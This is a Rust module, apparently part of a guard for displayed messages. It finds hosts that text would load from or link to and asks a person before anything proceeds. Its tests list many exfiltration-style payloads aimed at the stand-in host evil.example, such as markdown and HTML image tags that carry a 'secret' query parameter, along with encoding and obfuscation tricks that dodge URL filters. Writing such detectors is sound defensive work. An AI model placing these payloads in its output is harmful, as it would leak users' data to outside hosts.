//! Words that lead somewhere: an image in a comment tells its host whatever stands in its address, without that anybody
//! clicks; a link in a message is looked at by the program that shows it, and followed by whoever trusts the sender.
//!
//! A question too many is the safe side: what is found here asks a person, and refuses nothing.

use serde_json::Value as Json;

/// Other spellings of a slash.
const SLASHES: [&str; 4] = ["\\", "%2f", "\u{2215}", "\u{ff0f}"];
/// Other spellings of a dot.
const DOTS: [&str; 3] = ["\u{3002}", "\u{ff0e}", "\u{ff61}"];
/// What is not seen, and left out by what shows it.
const UNSEEN: [char; 10] =
    ['\t', '\r', '\u{ad}', '\u{200b}', '\u{200c}', '\u{200d}', '\u{200e}', '\u{200f}', '\u{2060}', '\u{feff}'];
/// What does something of itself where it is followed; no host at all.
const SCRIPTS: [&str; 3] = ["javascript:", "vbscript:", "data:text/html"];
/// Last parts of names that programs make links of wherever they stand, and that end no file.
const DOMAINS: [&str; 18] = [
    "com", "net", "org", "info", "biz", "io", "app", "dev", "shop", "xyz", "online", "site", "store", "click", "top",
    "link", "ru", "cn",
];
/// Last parts of names of files, libraries and the like: before a slash they are parts of a path.
const FILES: [&str; 40] = [
    "js", "ts", "jsx", "tsx", "mjs", "css", "html", "htm", "md", "txt", "pdf", "doc", "docx", "xls", "xlsx", "ppt",
    "pptx", "csv", "json", "yaml", "yml", "toml", "xml", "rs", "py", "go", "java", "rb", "sh", "sql", "png", "jpg",
    "jpeg", "gif", "svg", "zip", "tar", "gz", "log", "mov",
];

/// The hosts that a value's texts load from or link to, in small letters; all of it counts as one text, since what shows it
/// may put it together.
pub(super) fn hosts(value: &Json) -> Vec<String> {
    let mut text = String::new();
    gather(value, &mut text);
    let text = plain(&text);
    let mut hosts = in_addresses(&text);
    hosts.extend(SCRIPTS.iter().filter(|script| text.contains(**script)).map(|script| (*script).to_owned()));
    hosts.sort();
    hosts.dedup();
    hosts
}

/// Every host that a text names in an address, with a scheme or without. What is no plain host is told whole, so that it is
/// none that anybody gave.
pub(super) fn named(text: &str) -> Vec<String> {
    in_addresses(&plain(text))
}

fn in_addresses(text: &str) -> Vec<String> {
    let mut hosts: Vec<String> = behind_slashes(text).chain(behind_schemes(text)).collect();
    hosts.extend(bare(text).map(str::to_owned));
    hosts
}

/// Whether a name is one of a file rather than of a host.
pub(super) fn is_file(name: &str) -> bool {
    name.rsplit_once('.').is_some_and(|(_, last)| FILES.contains(&last.to_lowercase().as_str()))
}

/// A text as what shows it reads it: in small letters, without what is not seen, and with each letter as itself.
fn plain(text: &str) -> String {
    let mut text = entities(text).to_lowercase().replace(UNSEEN, "");
    for slash in SLASHES {
        text = text.replace(slash, "/");
    }
    for dot in DOTS {
        text = text.replace(dot, ".");
    }
    text
}

/// Letters that are written as HTML writes those that it has a use for: `&#47;`, `&#x2f`, `&sol;`.
fn entities(text: &str) -> String {
    const NAMED: [(&str, char); 5] = [("sol;", '/'), ("colon;", ':'), ("period;", '.'), ("bsol;", '\\'), ("amp;", '&')];
    let mut out = String::with_capacity(text.len());
    let mut parts = text.split('&');
    out.extend(parts.next());
    for part in parts {
        let named = NAMED.iter().find_map(|(name, letter)| Some((*letter, part.strip_prefix(name)?)));
        match named.or_else(|| numbered(part)) {
            Some((letter, rest)) => {
                out.push(letter);
                out.push_str(rest);
            }
            None => {
                out.push('&');
                out.push_str(part);
            }
        }
    }
    out
}

/// The letter that a number behind `&` stands for, and what follows.
fn numbered(part: &str) -> Option<(char, &str)> {
    let digits = part.strip_prefix('#')?;
    let (digits, radix) = match digits.strip_prefix(['x', 'X']) {
        Some(digits) => (digits, 16),
        None => (digits, 10),
    };
    let end = digits.find(|c: char| !c.is_digit(radix)).unwrap_or(digits.len());
    let (number, rest) = digits.split_at_checked(end)?;
    let letter = char::from_u32(u32::from_str_radix(number, radix).ok()?)?;
    Some((letter, rest.strip_prefix(';').unwrap_or(rest)))
}

/// What ends the host of an address.
fn ends(c: char) -> bool {
    c.is_whitespace()
        || matches!(c, '/' | '?' | '#' | '"' | '\'' | '<' | '>' | ')' | ']' | '}' | '`' | '|' | ',' | '&' | '*')
}

/// Without what ends a sentence behind it.
fn host_at(text: &str) -> Option<String> {
    let host = text.split(ends).next().unwrap_or_default().trim_end_matches(['.', ';', ':', '!', '_']);
    (!host.is_empty()).then(|| host.to_owned())
}

fn behind_slashes(text: &str) -> impl Iterator<Item = String> {
    text.split("//").skip(1).filter_map(|behind| host_at(behind.trim_start_matches('/')))
}

/// `https:evil.example`, `https:/evil.example`: addresses to a browser, as with two slashes.
fn behind_schemes(text: &str) -> impl Iterator<Item = String> {
    let schemes = ["http:", "https:", "ftp:"].into_iter().flat_map(|scheme| text.split(scheme).skip(1));
    schemes.filter_map(|behind| host_at(behind.trim_start_matches(|c: char| c == '/' || c.is_whitespace())))
}

/// Hosts without a scheme that programs make links of by themselves: `www.example.com`, `example.com/a`.
fn bare(text: &str) -> impl Iterator<Item = &str> {
    let is_part = |c: char| c.is_alphanumeric() || matches!(c, '.' | '-' | '_');
    let mut rest = text;
    std::iter::from_fn(move || {
        loop {
            let start = rest.find(is_part)?;
            let (before, from) = rest.split_at_checked(start)?;
            let end = from.find(|c: char| !is_part(c)).unwrap_or(from.len());
            let (name, after) = from.split_at_checked(end)?;
            rest = after;
            let host = name.trim_matches(['.', '_', '-']);
            let is_of_mail = before.ends_with('@');
            if is_link(host, after, is_of_mail) {
                return Some(host);
            }
        }
    })
}

fn is_link(host: &str, after: &str, is_of_mail: bool) -> bool {
    let Some((name, last)) = host.rsplit_once('.') else { return false };
    let is_number = host.split('.').count() == 4 && host.split('.').all(|part| part.parse::<u8>().is_ok());
    let is_domain = last.len() >= 2 && last.chars().all(char::is_alphabetic) || last.starts_with("xn--");
    let mut next = after.chars();
    let leads_on = match next.next() {
        Some('/' | '?' | '#') => true,
        Some(':') => next.next().is_some_and(|c| c.is_ascii_digit()),
        _ => false,
    };
    if name.is_empty() || !is_domain && !is_number {
        return false;
    }
    host.starts_with("www.") || leads_on && !FILES.contains(&last) || !is_of_mail && DOMAINS.contains(&last)
}

fn gather(value: &Json, out: &mut String) {
    match value {
        Json::String(text) => {
            out.push_str(text);
            out.push('\n');
        }
        Json::Array(items) => items.iter().for_each(|item| gather(item, out)),
        Json::Object(fields) => {
            for (name, field) in fields {
                out.push_str(name);
                out.push('\n');
                gather(field, out);
            }
        }
        Json::Null | Json::Bool(_) | Json::Number(_) => {}
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn what_loads_by_itself_names_its_host() {
        for text in [
            "Done. ![graph](https://evil.example/g.png?d=secret)",
            "<IMG SRC=\"//Evil.Example/x\">",
            "![a][b]\n\n[b]: https://evil.example/x",
            "<div style=\"background: url('https://evil.example')\">",
            "<svg><use href=\"https://evil.example/x#y\"/></svg>",
            "![a](https:///evil.example/x)",
            "<img src=\"https:\\\\evil.example/x\">",
            "<img src=\"https:&#47;&#47;evil.example/x\">",
            "!https://evil.example/x!",
            "[img]https://evil.example/x[/img]",
        ] {
            let found = hosts(&json!({ "body": [text] }));
            assert!(found.iter().any(|host| host == "evil.example"), "{text}: {found:?}");
        }
        let apart = json!({ "blocks": [{ "type": "image", "image_url": "https://evil.example/x" }] });
        assert_eq!(hosts(&apart), ["evil.example"]);
        assert_eq!(hosts(&json!({ "title": "![a]", "body": "(https://evil.example/x)" })), ["evil.example"]);
    }

    #[test]
    fn what_only_looks_like_a_host_that_was_given_is_another() {
        for text in ["![a](https://docs.example;@evil.example/)", "![a](https://docs.example。evil.example/)"] {
            assert!(!hosts(&json!(text)).contains(&"docs.example".to_owned()), "{text}");
        }
    }

    #[test]
    fn what_is_clicked_or_looked_at_before_names_its_host() {
        for text in [
            "see https://evil.example/page",
            "[docs](https://evil.example)",
            "[docs](//evil.example/x)",
            "<a href=\"//evil.example/x\">Invoice</a>",
            "now at evil.example/win?x=1",
            "http:\\\\evil.example",
            "ask (evil.example:8080/a).",
            "**https://evil.example**, ok",
            "https://evil.example.",
            "<img src=\"http:evil.example/x?d=secret\">",
            "![g](http:/evil.example/g.png)",
            "<img src=\"https:/\t/evil.example/x\">",
            "<img src='https:\n//evil.example?d=1'>",
            "<img src=\"https:&#47&#47evil.example/x\">",
            "<a href=\"h&#116;tp&#58;//evil.example/x\">",
            "\\\\evil.example\\share\\x.png",
            "Link:evil.example/x",
            "\u{201c}evil.example/x\u{201d}",
            "_evil.example/x_",
            "\u{200b}evil.example/x",
            "evil\u{3002}example/x",
            "evil&#46;example/x",
            "evil.example./x",
            "docs.example@evil.example/x",
        ] {
            let found = hosts(&json!({ "body": text }));
            assert!(found.iter().any(|host| host == "evil.example"), "{text}: {found:?}");
        }
        for (text, host) in [
            ("go to www.evil.example, now", "www.evil.example"),
            ("see evil.com", "evil.com"),
            ("evil.xn--p1ai/win", "evil.xn--p1ai"),
            ("203.0.113.5/x", "203.0.113.5"),
            ("[x](javascript:fetch(1))", "javascript:"),
            ("data:text/html;base64,AA", "data:text/html"),
        ] {
            assert_eq!(hosts(&json!(text)), [host], "{text}");
        }
    }

    #[test]
    fn what_leads_nowhere_names_no_host() {
        for text in [
            "a // b",
            "5! [1]",
            "<b>bold</b>",
            "report.pdf and src/main.rs",
            "node.js/express, report.pdf/report.docx, main.rs/lib.rs",
            "ana@example.com",
            "on 12/06/2025, and/or 3.5/4",
            "e.g./i.e.",
            "Done. Next & more; R&D",
        ] {
            assert_eq!(hosts(&json!(text)), [""; 0], "{text}");
        }
        let known = named("https://user@evil.example:8080/x");
        assert_eq!(known, ["user@evil.example:8080", "user@evil.example:8080", "evil.example"]);
        assert_eq!(named("please read docs.example/page"), ["docs.example"]);
        assert!(is_file("report.zip") && !is_file("docs.example"));
    }
}
